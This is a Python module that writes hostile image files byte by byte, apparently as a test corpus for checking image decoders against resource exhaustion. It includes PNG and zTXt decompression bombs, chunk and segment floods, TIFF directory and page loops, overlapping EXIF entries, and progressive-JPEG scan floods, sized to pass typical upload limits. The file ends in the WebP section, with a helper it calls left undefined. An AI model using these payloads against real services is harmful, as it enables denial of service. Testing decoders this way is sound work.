"""Hostile pictures: small files that state, nest or repeat what makes decoders work for long or take much memory.

Each function of ``KINDS`` returns the bytes of one file. Its arguments scale it; the defaults are what a service that
takes 32 MiB and 65 megapixels lets in. Nothing here opens a picture: files are written byte by byte, most from the
format's own specification.
"""

from __future__ import annotations

import functools
import io
import struct
import zlib
from collections.abc import Callable, Sequence

import numpy as np
from PIL import Image

# --- PNG ------------------------------------------------------------------------------------------------------------

_PNG = b"\x89PNG\r\n\x1a\n"


def chunk(kind: bytes, body: bytes = b"") -> bytes:
    """A PNG chunk with its checksum."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def deflated(row: bytes, count: int) -> bytes:
    """``row`` repeated ``count`` times, as a zlib stream."""
    packer = zlib.compressobj(9)
    many = max(1, (1 << 20) // max(1, len(row)))
    parts = [packer.compress(row * min(many, count - done)) for done in range(0, count, many)]
    return b"".join(parts) + packer.flush()


def png(
    width: int = 64,
    height: int = 64,
    *,
    depth: int = 8,
    colour: int = 0,
    interlace: int = 0,
    before: bytes = b"",
    data: bytes | None = None,
    after: bytes = b"",
) -> bytes:
    """A black PNG with chunks of one's own before and after its data."""
    samples = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour]
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace))
    if data is None:
        data = chunk(b"IDAT", deflated(bytes(1 + -(-width * samples * depth // 8)), height))
    palette = chunk(b"PLTE", bytes(768)) if colour == 3 else b""
    return _PNG + head + before + palette + data + after + chunk(b"IEND")


def png_empty_chunks(count: int = 2_500_000) -> bytes:
    return png(before=chunk(b"abCd") * count)


def png_empty_chunks_behind(count: int = 2_500_000) -> bytes:
    return png(after=chunk(b"abCd") * count)


def png_data_in_single_bytes(pixels: int = 2_000_000) -> bytes:
    noise = np.random.default_rng(1).integers(0, 256, (pixels // 1000, 1001), np.uint8)
    noise[:, 0] = 0
    body = zlib.compress(noise.tobytes(), 1)
    return png(1000, pixels // 1000, data=b"".join(chunk(b"IDAT", body[i : i + 1]) for i in range(len(body))))


def png_empty_data_chunks(count: int = 2_500_000) -> bytes:
    return png(before=chunk(b"IDAT") * count)


def png_text_flood(count: int = 1_500_000) -> bytes:
    return png(before=chunk(b"tEXt", b"k\0v") * count)


def png_text_bomb(count: int = 400, size: int = 1 << 20) -> bytes:
    return png(before=chunk(b"zTXt", b"k\0\0" + deflated(b" " * 1024, size // 1024)) * count)


def png_international_text_bomb(count: int = 400, size: int = 1 << 20) -> bytes:
    return png(before=chunk(b"iTXt", b"k\0\1\0\0\0" + deflated(b" " * 1024, size // 1024)) * count)


def png_one_huge_text(size: int = 1 << 30) -> bytes:
    return png(before=chunk(b"zTXt", b"k\0\0" + deflated(b" " * 1024, size // 1024)))


def png_profile_bomb(size: int = 1 << 30) -> bytes:
    return png(before=chunk(b"iCCP", b"icc\0\0" + deflated(bytes(1024), size // 1024)))


def png_profiles_repeated(count: int = 5_000) -> bytes:
    return png(before=chunk(b"iCCP", b"icc\0\0" + deflated(bytes(1024), 900)) * count)


def png_header_repeated(count: int = 1_000_000) -> bytes:
    return png(before=chunk(b"IHDR", struct.pack(">IIBBBBB", 8000, 8000, 16, 6, 0, 0, 0)) * count)


def png_header_changed_behind(side: int = 8000) -> bytes:
    return png(after=chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 16, 6, 0, 0, 0)))


def png_grey_of_sixteen_bits(side: int = 8000) -> bytes:
    return png(side, side, depth=16)


def png_alpha_of_sixteen_bits(side: int = 8000) -> bytes:
    return png(side, side, depth=16, colour=6)


def png_grey_alpha(side: int = 8000) -> bytes:
    return png(side, side, colour=4)


def png_interlaced(side: int = 8000) -> bytes:
    row = bytes(64)
    return png(side, side, colour=2, interlace=1, data=chunk(b"IDAT", deflated(row, side * (3 * side + 3) // 60)))


def png_interlaced_one_row(width: int = 65_000_000) -> bytes:
    return png(width, 1, interlace=1, data=chunk(b"IDAT", deflated(bytes(1024), width // 1000)))


def png_one_column(height: int = 60_000_000) -> bytes:
    return png(1, height)


def png_palette_transparent(side: int = 8000) -> bytes:
    return png(side, side, colour=3, before=b"", data=chunk(b"tRNS", bytes(256)) + _rows(side, side))


def png_paeth(side: int = 8000) -> bytes:
    """Every row predicted by the most expensive filter."""
    return png(side, side, colour=2, data=chunk(b"IDAT", deflated(b"\4" + bytes(3 * side), side)))


def png_data_beyond_the_picture(size: int = 4 << 30) -> bytes:
    return png(64, 64, data=chunk(b"IDAT", deflated(bytes(1 << 20), size >> 20)))


def png_palette_of_one_bit(side: int = 8062) -> bytes:
    return png(side, side, depth=1, colour=3)


def apng_frames(count: int = 300_000) -> bytes:
    frame = chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 64, 64, 0, 0, 1, 30, 0, 0)) + chunk(b"fdAT", bytes(8))
    return png(before=chunk(b"acTL", struct.pack(">II", count, 0)), after=frame * count)


def png_exif_overlapping(entries: int = 60_000, size: int = 20 << 20) -> bytes:
    return png(before=chunk(b"eXIf", overlapping_directory(entries, size)))


def _rows(width: int, height: int) -> bytes:
    return chunk(b"IDAT", deflated(bytes(1 + width), height))


# --- TIFF and EXIF --------------------------------------------------------------------------------------------------

Entry = tuple[int, int, int, int | bytes]
_INLINE = {3: "<HH", 4: "<I"}


def tiff(entries: Sequence[Entry], tail: bytes = b"", following: int = 0) -> bytes:
    """A little-endian TIFF of one directory; ``tail`` follows it and its values. Value -1: the offset of ``tail``."""
    blob, table = b"", b""
    start = 8 + 2 + 12 * len(entries) + 4
    total = sum(len(v) + len(v) % 2 for *_, v in entries if isinstance(v, bytes) and len(v) > 4)
    for tag, kind, count, value in sorted(entries, key=lambda entry: entry[0]):
        if isinstance(value, bytes):
            if len(value) > 4:
                word, blob = struct.pack("<I", start + len(blob)), blob + value + bytes(len(value) % 2)
            else:
                word = value.ljust(4, b"\0")
        else:
            word = struct.pack("<I", start + total if value == -1 else value)
        table += struct.pack("<HHI", tag, kind, count) + word
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + table + struct.pack("<I", following) + blob + tail


def grey_tiff(
    width: int,
    height: int,
    tail: bytes,
    *more: Entry,
    compression: int = 1,
    rows: int | None = None,
    bits: int = 8,
    samples: int = 1,
    photometric: int = 1,
    following: int = 0,
) -> bytes:
    """A TIFF with one strip, the ``tail``."""
    entries: list[Entry] = [(256, 4, 1, width), (257, 4, 1, height), (259, 3, 1, compression)]
    entries += [(262, 3, 1, photometric), (273, 4, 1, -1), (277, 3, 1, samples), (278, 4, 1, rows or height)]
    entries += [(279, 4, 1, len(tail)), (258, 3, samples, struct.pack(f"<{samples}H", *[bits] * samples))]
    given = {entry[0] for entry in more}
    return tiff([e for e in entries if e[0] not in given] + list(more), tail, following)


def overlapping_directory(entries: int, size: int) -> bytes:
    """A directory whose every value is the same ``size`` bytes."""
    table = b"".join(struct.pack("<HHII", 0x9000 + i % 1000, 7, size, 8) for i in range(entries))
    return b"II*\0" + struct.pack("<IH", 8, entries) + table + bytes(4) + bytes(size)


def tiff_strips(count: int = 4_000_000) -> bytes:
    offsets = b"\x08" * count
    return tiff(
        [
            *((256, 4, 1, 1), (257, 4, 1, 2), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (277, 3, 1, 1)),
            *((278, 4, 1, 1), (273, 1, count, offsets), (279, 1, count, offsets)),
        ]
    )


def tiff_strips_of_one_row(height: int = 4_000_000) -> bytes:
    return tiff(
        [
            *((256, 4, 1, 1), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (277, 3, 1, 1)),
            *((278, 4, 1, 1), (273, 4, height, bytes(4 * height)), (279, 1, height, b"\1" * height)),
        ]
    )


def tiff_one_tile(side: int = 16_384, shown: int = 16, compression: int = 8) -> bytes:
    body = deflated(bytes(1 << 20), side * side >> 20)
    more: list[Entry] = [(322, 4, 1, side), (323, 4, 1, side), (324, 4, 1, -1), (325, 4, 1, len(body))]
    return grey_tiff(shown, shown, body, *more, compression=compression)


def tiff_tiles(side: int = 8000, tile: int = 16) -> bytes:
    count = (side // tile) ** 2
    more: list[Entry] = [(322, 4, 1, tile), (323, 4, 1, tile)]
    more += [(324, 4, count, bytes(4 * count)), (325, 4, count, bytes(4 * count))]
    return grey_tiff(side, side, b"", *more, compression=8)


def tiff_tiles_that_share_their_bytes(side: int = 8000, tile: int = 256) -> bytes:
    body = deflated(bytes(tile), tile)
    count = (-(-side // tile)) ** 2
    more: list[Entry] = [(322, 4, 1, tile), (323, 4, 1, tile), (324, 4, count, struct.pack("<I", 8) * count)]
    more += [(325, 4, count, struct.pack("<I", len(body)) * count)]
    return grey_tiff(side, side, body, *more, compression=8)


def tiff_tile_one_wide(height: int = 60_000_000) -> bytes:
    more: list[Entry] = [(322, 4, 1, 16), (323, 4, 1, height), (324, 4, 1, -1), (325, 4, 1, 64)]
    return grey_tiff(1, height, bytes(64), *more, compression=8)


def tiff_deflate(side: int = 8000, samples: int = 3) -> bytes:
    body = deflated(bytes(side * samples), side)
    return grey_tiff(side, side, body, compression=8, samples=samples, photometric=2 if samples >= 3 else 1)


def tiff_lzw(side: int = 8000) -> bytes:
    """LZW that never leaves its first codes: clear code and zeros, 9 bits each."""
    return grey_tiff(side, side, b"\x80\x00\x20\x10\x08\x04\x02\x01\x00" * 40_000, compression=5)


def tiff_packbits(side: int = 8000) -> bytes:
    return grey_tiff(side, side, b"\x81\x00" * (side * side // 128 + 1), compression=32773)


def tiff_fax(width: int = 60_000, height: int = 1000) -> bytes:
    return grey_tiff(width, height, b"\x80" * (4 << 20), compression=4, bits=1)


def tiff_fax_one_column(height: int = 60_000_000) -> bytes:
    return grey_tiff(1, height, b"\xff" * (height // 8), compression=4, bits=1)


def tiff_fax_of_runs(width: int = 60_000, height: int = 1000) -> bytes:
    return grey_tiff(width, height, b"\x35" * (4 << 20), compression=2, bits=1)


def tiff_lzma(side: int = 8000) -> bytes:
    import lzma

    body = lzma.compress(bytes(side * side), preset=9)
    return grey_tiff(side, side, body, compression=34925)


def tiff_lzma_dictionary(size: int = 0xFFFF_FFF0) -> bytes:
    """A stream that asks for a dictionary of 4 GiB."""
    import lzma

    filters = [{"id": lzma.FILTER_LZMA2, "preset": 0, "dict_size": 4096}]
    body = bytearray(lzma.compress(bytes(4096), filters=filters))
    body[body.index(b"\x21\x01") + 2] = 40 if size > 1 << 31 else 36
    body[20:24] = struct.pack("<I", zlib.crc32(bytes(body[12:20])))
    return grey_tiff(64, 64, bytes(body), compression=34925)


def tiff_jpeg_of_scans(scans: int = 2000, side: int = 4096) -> bytes:
    return grey_tiff(side, side, progressive(side, side, scans), compression=7)


def tiff_jpeg_of_scans_shared(scans: int = 100, strips: int = 1000, width: int = 8000) -> bytes:
    body = progressive(width, 8, scans)
    more: list[Entry] = [(278, 4, 1, 8), (279, 4, strips, struct.pack("<I", len(body)) * strips)]
    head = 8 + 2 + 12 * 9 + 4 + 8 * strips
    more.append((273, 4, strips, struct.pack("<I", head) * strips))
    return grey_tiff(width, 8 * strips, body, *more, compression=7)


def tiff_old_jpeg(scans: int = 2000, side: int = 4096) -> bytes:
    body = progressive(side, side, scans)
    return grey_tiff(side, side, body, (513, 4, 1, -1), (514, 4, 1, len(body)), compression=6)


def tiff_webp(side: int = 8000) -> bytes:
    return grey_tiff(side, side, webp_lossless_header(side, side), compression=50001, samples=3, photometric=2)


def tiff_zstandard(side: int = 8000) -> bytes:
    """Blocks of one repeated byte, 128 KiB each, in four bytes."""
    block = struct.pack("<I", (131072 << 3) | 2)[:3] + b"\0"
    body = struct.pack("<IBB", 0xFD2FB528, 0x00, 0x58) + block * (side * side // 131072) + b"\1\0\0"
    return grey_tiff(side, side, body, compression=50000)


def tiff_page_loop() -> bytes:
    return grey_tiff(64, 64, bytes(4096), following=8)


def tiff_pages(count: int = 1_500_000) -> bytes:
    first = grey_tiff(64, 64, bytes(4096))
    start = len(first)
    chain = b"".join(struct.pack("<HI", 0, start + 6 * (i + 1)) for i in range(count))
    return grey_tiff(64, 64, bytes(4096), following=start) + chain


def tiff_overlapping(entries: int = 60_000, size: int = 20 << 20) -> bytes:
    more: list[Entry] = [(40_000 + i, 7, size, 8) for i in range(min(entries, 25_000))]
    return grey_tiff(64, 64, bytes(max(4096, size)), *more)


def tiff_sub_directories(count: int = 20_000, size: int = 20 << 20) -> bytes:
    """EXIF, GPS and interoperability directories that lie over each other and name the same bytes."""
    directory = struct.pack("<H", count)
    directory += b"".join(struct.pack("<HHII", 0x9000 + i % 999, 7, size, 8) for i in range(count)) + bytes(4)
    body = bytes(4096) + directory + bytes(size)
    base = grey_tiff(64, 64, b"", (0x8769, 4, 1, 0), (0x8825, 4, 1, 0))
    at = len(base) + 4096
    return grey_tiff(64, 64, body, (0x8769, 4, 1, at), (0x8825, 4, 1, at))


def tiff_sub_directory_loop() -> bytes:
    return grey_tiff(64, 64, bytes(4096), (0x8769, 4, 1, 8), (0x8825, 4, 1, 8), (0xA005, 4, 1, 8), (330, 4, 1, 8))


def tiff_many_entries(count: int = 65_000) -> bytes:
    return grey_tiff(64, 64, bytes(4096), *[(1000 + i, 3, 1, 1) for i in range(count) if not 1000 + i > 65_535])


def tiff_huge_count(count: int = 0xFFFF_FFFF) -> bytes:
    return grey_tiff(64, 64, bytes(4096), (0x9000, 12, count, 8), (0x010E, 2, count, 8))


def tiff_samples(samples: int = 60_000) -> bytes:
    return grey_tiff(64, 64, bytes(4096), samples=samples)


def tiff_planar(side: int = 8000, samples: int = 4) -> bytes:
    plane = deflated(bytes(side), side)
    more: list[Entry] = [(284, 3, 1, 2), (273, 4, samples, struct.pack("<4I", *[8] * 4)[: 4 * samples])]
    more.append((279, 4, samples, struct.pack("<I", len(plane)) * samples))
    return grey_tiff(side, side, plane, *more, compression=8, samples=samples, photometric=2)


def tiff_floats(side: int = 8000, bits: int = 32) -> bytes:
    body = deflated(bytes(side * bits // 8), side)
    return grey_tiff(side, side, body, (339, 3, 1, 3), compression=8, bits=bits)


def tiff_doubles(side: int = 8000) -> bytes:
    return tiff_floats(side, 64)


def tiff_sixteen_bit_alpha(side: int = 8000) -> bytes:
    body = deflated(bytes(side * 8), side)
    return grey_tiff(side, side, body, (338, 3, 1, 2), compression=8, bits=16, samples=4, photometric=2)


def tiff_inks(side: int = 8000) -> bytes:
    """Four inks with a colour profile: every pixel goes through the profile's tables."""
    body = deflated(bytes(side * 4), side)
    profile = ink_profile()
    return grey_tiff(side, side, body, (34675, 7, len(profile), profile), compression=8, samples=4, photometric=5)


def tiff_orientations(count: int = 4_000_000) -> bytes:
    return grey_tiff(64, 64, bytes(4096), (274, 3, count, struct.pack("<H", 6) * count))


def tiff_big(pieces: int = 3_000_000) -> bytes:
    """A BigTIFF whose strips are counted in 64 bits."""
    entries: list[tuple[int, int, int, int]] = [(256, 4, 1, 1), (257, 4, 1, pieces), (258, 3, 1, 8), (259, 3, 1, 1)]
    entries += [(262, 3, 1, 1), (273, 1, pieces, 8), (277, 3, 1, 1), (278, 4, 1, 1), (279, 1, pieces, 8)]
    table = b"".join(struct.pack("<HHQQ", *entry) for entry in entries)
    head = b"II+\0" + struct.pack("<HHQ", 8, 0, 16) + struct.pack("<Q", len(entries)) + table + bytes(8)
    return head + bytes(pieces)


def tiff_big_count() -> bytes:
    """A BigTIFF that claims 2**60 entries."""
    return b"II+\0" + struct.pack("<HHQ", 8, 0, 16) + struct.pack("<Q", 1 << 60) + bytes(4096)


# --- JPEG -----------------------------------------------------------------------------------------------------------


def small_jpeg(side: int = 64, **options: object) -> bytes:
    """An ordinary JPEG of a grey ramp."""
    buffer = io.BytesIO()
    Image.linear_gradient("L").convert("RGB").resize((side, side)).save(buffer, "JPEG", **options)
    return buffer.getvalue()


def segment(marker: int, body: bytes) -> bytes:
    """A JPEG segment with its length."""
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def with_segments(*segments: bytes, side: int = 64) -> bytes:
    """An ordinary JPEG with segments behind its first marker."""
    data = small_jpeg(side)
    return data[:2] + b"".join(segments) + data[2:]


def _bits(text: str) -> bytes:
    text += "1" * (-len(text) % 8)
    return int(text, 2).to_bytes(len(text) // 8, "big").replace(b"\xff", b"\xff\0")


def _frame(marker: int, width: int, height: int, components: int = 1, precision: int = 8) -> bytes:
    body = struct.pack(">BHHB", precision, height, width, components)
    return segment(marker, body + b"".join(bytes((i + 1, 0x11, 0)) for i in range(components)))


def _tables() -> bytes:
    """Flat quantisation, a DC table of one code, an AC table of the runs of empty blocks."""
    runs = bytes((level << 4) for level in range(14, -1, -1))
    return (
        segment(0xDB, b"\0" + bytes([1] * 64))
        + segment(0xC4, b"\0" + bytes([1, 1] + [0] * 14) + b"\0\1")
        + segment(0xC4, b"\x10" + bytes([0, 0, 0, 15] + [0] * 12) + runs)
    )


@functools.cache
def progressive(width: int = 8000, height: int = 8000, scans: int = 1000, marker: int = 0xC2) -> bytes:
    """A grey progressive JPEG: one scan of zeros, then scans that say in a few bytes that every block stays empty."""
    blocks = -(-width // 8) * -(-height // 8)
    first = segment(0xDA, b"\1\1\0\0\0\0") + _bits("0" * blocks)
    text, left = "", blocks
    while left:
        level = min(14, left.bit_length() - 1)
        extra = min(left - (1 << level), (1 << level) - 1)
        text += format(14 - level, "04b") + (format(extra, f"0{level}b") if level else "")
        left -= (1 << level) + extra
    empty = segment(0xDA, b"\1\1\0\1\x3f\0") + _bits(text)
    return b"\xff\xd8" + _frame(marker, width, height) + _tables() + first + empty * scans + b"\xff\xd9"


def jpeg_scans(side: int = 8000, scans: int = 8000) -> bytes:
    return progressive(side, side, scans)


def jpeg_scans_below_the_limit(side: int = 8000, scans: int = 199) -> bytes:
    return progressive(side, side, scans)


def jpeg_scans_of_arithmetic_coding(side: int = 8000, scans: int = 1000) -> bytes:
    return progressive(side, side, scans, 0xCA)


def jpeg_baseline_scans(side: int = 8000, scans: int = 500) -> bytes:
    """A sequential JPEG whose one component is sent again and again."""
    blocks = (-(-side // 8)) ** 2
    one = segment(0xDA, b"\1\1\0\0\x3f\0") + _bits("0" + "1110") * (blocks // 1000)
    return b"\xff\xd8" + _frame(0xC0, side, side) + _tables() + one * scans + b"\xff\xd9"


def jpeg_empty_segments(count: int = 8_000_000) -> bytes:
    return with_segments(segment(0xE5, b"") * count)


def jpeg_comments(count: int = 2_000_000) -> bytes:
    return with_segments(segment(0xFE, b"hello") * count)


def jpeg_large_comments(count: int = 500) -> bytes:
    return with_segments(segment(0xFE, bytes(65_000)) * count)


def jpeg_fill_bytes(count: int = 32_000_000) -> bytes:
    return with_segments(b"\xff" * count)


def jpeg_bytes_between_segments(count: int = 32_000_000) -> bytes:
    return with_segments(bytes(count))


def jpeg_stuffed_bytes_between_segments(count: int = 16_000_000) -> bytes:
    return with_segments(b"\xff\0" * count)


def jpeg_huffman_tables(count: int = 300_000) -> bytes:
    return with_segments(segment(0xC4, b"\0" + bytes([1] + [0] * 15) + b"\0") * count)


def jpeg_quantisation_tables(count: int = 500) -> bytes:
    return with_segments(segment(0xDB, (b"\0" + bytes([1] * 64)) * 1000) * count)


def jpeg_restart_intervals(count: int = 5_000_000) -> bytes:
    return with_segments(segment(0xDD, b"\0\1") * count)


def jpeg_restart_markers(side: int = 8000) -> bytes:
    """A restart marker behind every block."""
    blocks = (-(-side // 8)) ** 2
    body = b"".join(b"\x47\xff" + bytes((0xD0 + i % 8,)) for i in range(8)) * (blocks // 8)
    head = b"\xff\xd8" + segment(0xDD, b"\0\1") + _frame(0xC0, side, side) + _tables()
    return head + segment(0xDA, b"\1\1\0\0\x3f\0") + body + b"\xff\xd9"


def jpeg_restart_markers_without_end(count: int = 16_000_000) -> bytes:
    data = small_jpeg()
    at = data.index(b"\xff\xda") + 14
    return data[:at] + b"\xff\xd3" * count + data[at:]


def jpeg_arithmetic(side: int = 8000) -> bytes:
    body = segment(0xDA, b"\1\1\0\0\x3f\0") + bytes(np.random.default_rng(2).integers(0, 255, 16 << 20, np.uint8))
    return b"\xff\xd8" + _frame(0xC9, side, side) + _tables() + body + b"\xff\xd9"


def jpeg_four_components(side: int = 8000) -> bytes:
    blocks = (-(-side // 8)) ** 2
    scan = segment(0xDA, b"\4\1\0\2\0\3\0\4\0\0\x3f\0") + _bits("0" + "1110") * (blocks // 4)
    return b"\xff\xd8" + _frame(0xC0, side, side, 4) + _tables() + scan + b"\xff\xd9"


def jpeg_progressive_inks(side: int = 8000) -> bytes:
    scan = segment(0xDA, b"\4\1\0\2\0\3\0\4\0\0\0\0") + bytes(side * side // 64 // 2)
    return b"\xff\xd8" + _frame(0xC2, side, side, 4) + _tables() + scan + b"\xff\xd9"


def jpeg_twelve_bits(side: int = 8000) -> bytes:
    return b"\xff\xd8" + _frame(0xC1, side, side, 1, 12) + _tables() + segment(0xDA, b"\1\1\0\0\x3f\0") + bytes(4096)


def jpeg_lossless(side: int = 8000) -> bytes:
    return b"\xff\xd8" + _frame(0xC3, side, side) + _tables() + segment(0xDA, b"\1\1\0\1\0\0") + bytes(4096)


def jpeg_hierarchical(count: int = 100_000) -> bytes:
    frames = segment(0xDE, b"\x08" + struct.pack(">HHB", 8000, 8000, 0)) + _frame(0xC5, 8000, 8000) * count
    return b"\xff\xd8" + frames + b"\xff\xd9"


def jpeg_height_behind(width: int = 65_000) -> bytes:
    """No height in the frame: it comes behind the data (DNL)."""
    data = b"\xff\xd8" + _frame(0xC0, width, 0) + _tables() + segment(0xDA, b"\1\1\0\0\x3f\0") + bytes(4096)
    return data + segment(0xDC, struct.pack(">H", 65_000)) + b"\xff\xd9"


def jpeg_frames(count: int = 1_000_000) -> bytes:
    return b"\xff\xd8" + _frame(0xC0, 64, 64) * count + small_jpeg()[2:]


def jpeg_exif_overlapping(count: int = 400, entries: int = 5000) -> bytes:
    """EXIF spread over segments, whose every entry names all of it."""
    block = overlapping_directory(entries, 65_000 * count)
    parts = [block[i : i + 65_000] for i in range(0, min(len(block), 65_000 * count), 65_000)]
    return with_segments(*[segment(0xE1, b"Exif\0\0" + part) for part in parts])


def jpeg_exif_loop() -> bytes:
    block = tiff([(0x8769, 4, 1, 8), (0x8825, 4, 1, 8), (0xA005, 4, 1, 8)], following=8)
    return with_segments(segment(0xE1, b"Exif\0\0" + block))


def jpeg_exif_huge_counts(entries: int = 5000) -> bytes:
    table = b"".join(struct.pack("<HHII", 0x9000 + i, 12, 0x1FFF_FFFF, 8) for i in range(entries))
    block = b"II*\0" + struct.pack("<IH", 8, entries) + table + bytes(4)
    return with_segments(segment(0xE1, b"Exif\0\0" + block))


def jpeg_multi_picture(entries: int = 4000) -> bytes:
    index = struct.pack("<IIIHH", 0, 100, 0, 0, 0) * entries
    block = tiff([(0xB000, 7, 4, b"0100"), (0xB001, 4, 1, entries), (0xB002, 7, len(index), index)])
    return with_segments(segment(0xE2, b"MPF\0" + block))


def jpeg_multi_picture_count(count: int = 0xFFFF_FFFF) -> bytes:
    block = tiff([(0xB000, 7, 4, b"0100"), (0xB001, 4, 1, count), (0xB002, 7, 64, bytes(64))])
    return with_segments(segment(0xE2, b"MPF\0" + block))


def jpeg_photoshop_resources(segments: int = 480, each: int = 5000) -> bytes:
    return with_segments(*[segment(0xED, b"Photoshop 3.0\0" + b"8BIM\4\4\0\0\0\0\0\0" * each)] * segments)


def jpeg_xmp(segments: int = 480) -> bytes:
    return with_segments(*[segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + b"<" * 65_000)] * segments)


def jpeg_profile_in_pieces(pieces: int = 255) -> bytes:
    parts = [segment(0xE2, b"ICC_PROFILE\0" + bytes((i + 1, pieces)) + bytes(65_000)) for i in range(pieces)]
    return with_segments(*parts)


def jpeg_profile_with_tables(grid: int = 33) -> bytes:
    """A profile with a large table for each direction, applied to a large picture of inks."""
    return jpeg_with_profile(ink_profile(grid))


def jpeg_profile_with_curves(points: int = 65_535) -> bytes:
    return jpeg_with_profile(curve_profile(points), "RGB")


def jpeg_with_profile(profile: bytes, mode: str = "CMYK", side: int = 3000) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, (side, side)).save(buffer, "JPEG", icc_profile=profile)
    return buffer.getvalue()


def jpeg_and_archive(size: int = 24 << 20) -> bytes:
    """A picture with something else behind it: other tools see an archive of scans' first bytes."""
    return small_jpeg() + b"\xff\xda" * (size // 2)


def jpeg_one_row(width: int = 65_000) -> bytes:
    return (
        b"\xff\xd8" + _frame(0xC0, width, 1) + _tables() + segment(0xDA, b"\1\1\0\0\x3f\0") + bytes(4096) + b"\xff\xd9"
    )


# --- colour profiles ------------------------------------------------------------------------------------------------


def _profile(space: bytes, pcs: bytes, kind: bytes, tags: Sequence[tuple[bytes, bytes]]) -> bytes:
    white = b"XYZ \0\0\0\0" + b"".join(struct.pack(">i", round(v * 65536)) for v in (0.9642, 1.0, 0.8249))
    name = b"desc\0\0\0\0" + struct.pack(">I", 5) + b"Test\0" + bytes(78)
    every = [(b"desc", name), (b"wtpt", white), (b"cprt", b"text\0\0\0\0none"), *tags]
    offset, table, body = 132 + 12 * len(every), b"", b""
    for tag, data in every:
        table += tag + struct.pack(">II", offset + len(body), len(data))
        body += data + bytes(-len(data) % 4)
    head = struct.pack(">I4xI4s4s4s12x4s", offset + len(body), 0x02100000, kind, space, pcs, b"acsp")
    return head.ljust(68, b"\0") + white[8:] + bytes(48) + struct.pack(">I", len(every)) + table + body


@functools.cache
def ink_profile(grid: int = 17) -> bytes:
    """A profile of four inks with a table of ``grid`` ** 4 places."""
    matrix = b"".join(struct.pack(">i", 65536 * (i % 4 == 0)) for i in range(9))
    places = min(grid**4, (4 << 20) // 3 - 4096)
    straight = bytes(range(256))
    body = b"mft1\0\0\0\0" + bytes((4, 3, grid, 0)) + matrix + 4 * straight + bytes(3 * places) + 3 * straight
    return _profile(b"CMYK", b"Lab ", b"prtr", [(b"A2B0", body)])


@functools.cache
def curve_profile(points: int = 65_535) -> bytes:
    """A profile of a screen whose curves have ``points`` points each."""
    curve = b"curv\0\0\0\0" + struct.pack(">I", points) + np.linspace(0, 65535, points).astype(">u2").tobytes()
    tags = [(tag, b"XYZ \0\0\0\0" + struct.pack(">3i", 30_000, 30_000, 20_000)) for tag in (b"rXYZ", b"gXYZ", b"bXYZ")]
    return _profile(b"RGB ", b"XYZ ", b"mntr", [*tags, *[(t, curve) for t in (b"rTRC", b"gTRC", b"bTRC")]])


# --- BMP ------------------------------------------------------------------------------------------------------------


def bmp(width: int, height: int, compression: int, data: bytes, bits: int = 8, colours: int = 2) -> bytes:
    """A BMP with the header of Windows 3."""
    palette = bytes(4 * min(colours, 256))
    offset = 54 + len(palette)
    head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, bits, compression, len(data), 0, 0, colours, 0)
    return b"BM" + struct.pack("<IHHI", offset + len(data), 0, 0, offset) + head + palette + data


def bmp_delta(width: int = 4_000_000, up: int = 255) -> bytes:
    return bmp(width, 1, 1, b"\0\2\0" + bytes((up,)) + b"\0\1")


def bmp_end_of_line(width: int = 65_000_000) -> bytes:
    return bmp(width, 1, 1, b"\1\1\0\0\0\1")


def bmp_end_of_line_narrow(height: int = 60_000_000) -> bytes:
    return bmp(1, height, 1, b"\0\0" * (8 << 20))


def bmp_no_operations(count: int = 16_000_000) -> bytes:
    return bmp(6000, 6000, 1, b"\0\0" * count)


def bmp_deltas_of_nothing(count: int = 8_000_000) -> bytes:
    return bmp(6000, 6000, 1, b"\0\2\0\0" * count)


def bmp_runs_of_nothing(count: int = 16_000_000) -> bytes:
    return bmp(6000, 6000, 1, b"\0\3\1\0\1\1" * (count // 6))


def bmp_runs_of_one(pixels: int = 16_000_000) -> bytes:
    return bmp(4000, pixels // 4000, 1, b"\1\0" * pixels)


def bmp_runs_of_four_bits(side: int = 8000) -> bytes:
    return bmp(side, side, 2, b"\xff\x01" * (side * side // 255), bits=4)


def bmp_four_bits_end_of_line(width: int = 65_000_000) -> bytes:
    return bmp(width, 1, 2, b"\1\1\0\0\0\1", bits=4)


def bmp_of_os2(side: int = 8000) -> bytes:
    head = struct.pack("<IHHHH", 12, side, side, 1, 24)
    return b"BM" + struct.pack("<IHHI", 26, 0, 0, 26) + head + bytes(4096)


def bmp_of_os2_with_runs(width: int = 65_000_000) -> bytes:
    head = struct.pack("<IiiHHIIiiII", 64, width, 1, 1, 8, 1, 6, 0, 0, 2, 0) + bytes(24)
    return b"BM" + struct.pack("<IHHI", 92, 0, 0, 86) + head + bytes(8) + b"\1\1\0\0\0\1"


def bmp_top_down(height: int = -65_000_000) -> bytes:
    return bmp(1, height, 0, bytes(4096))


def bmp_most_negative(value: int = -(2**31)) -> bytes:
    return bmp(1, value, 0, bytes(4096))


def bmp_most_negative_width(value: int = -(2**31)) -> bytes:
    return bmp(value, value, 1, bytes(4096))


def bmp_colours(count: int = 0x7FFF_FFFF) -> bytes:
    return bmp(64, 64, 0, bytes(4096), colours=count)


def bmp_of_jpeg(side: int = 4096, scans: int = 1000) -> bytes:
    return bmp(side, side, 4, progressive(side, side, scans), bits=0)


def bmp_of_png(side: int = 8000) -> bytes:
    return bmp(side, side, 5, png(side, side), bits=0)


def bmp_header_size(size: int = 0xFFFF_FFFF) -> bytes:
    return b"BM" + struct.pack("<IHHI", 26, 0, 0, 26) + struct.pack("<Iii", size, 64, 64) + bytes(4096)


def bmp_truncated(side: int = 8000) -> bytes:
    return bmp(side, side, 0, b"", bits=24)


# --- WebP -----------------------------------------------------------------------------------------------------------


def riff(*chunks: tuple[bytes, bytes]) -> bytes:
    """A WebP container."""
    body = b"".join(k + struct.pack("<I", len(b)) + b + bytes(len(b) % 2) for k, b in chunks)
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


